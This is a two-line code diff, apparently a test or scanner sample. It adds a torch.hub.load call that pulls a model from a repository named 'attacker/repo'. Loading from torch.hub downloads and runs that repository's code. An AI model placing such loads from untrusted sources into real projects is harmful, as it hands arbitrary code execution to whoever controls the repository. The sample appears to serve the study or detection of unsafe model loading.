@@ -1,0 +1,2 @@
+import torch
+m = torch.hub.load('attacker/repo', 'model')
